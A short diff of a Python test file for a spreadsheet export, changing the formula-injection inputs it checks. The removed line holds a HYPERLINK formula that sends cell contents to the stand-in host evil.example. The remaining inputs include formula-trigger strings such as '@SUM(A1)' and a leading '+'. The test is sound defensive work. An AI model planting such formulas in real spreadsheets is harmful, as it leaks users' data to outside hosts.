@@ -82,8 +82,8 @@ def test_an_export_that_fails_leaves_the_old_file(tmp_path, plan, monkeypatch):
     assert [p.name for p in tmp_path.iterdir()] == ["plan.xlsx"]
 
 
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-TEXTS = (FORMULA, "+1", "-1", "@SUM(A1)", "\tx", "'=1", "https://example.org/a", "A-1")
+FORMULA = '=HYPERLINK("#A1"&A1,"x")'
+TEXTS = (FORMULA, "+1", "-1", "@SUM(A1)", "\tx", "'=1", "mailto:a@b.c", "A-1")
 
 
 @pytest.fixture(scope="module")
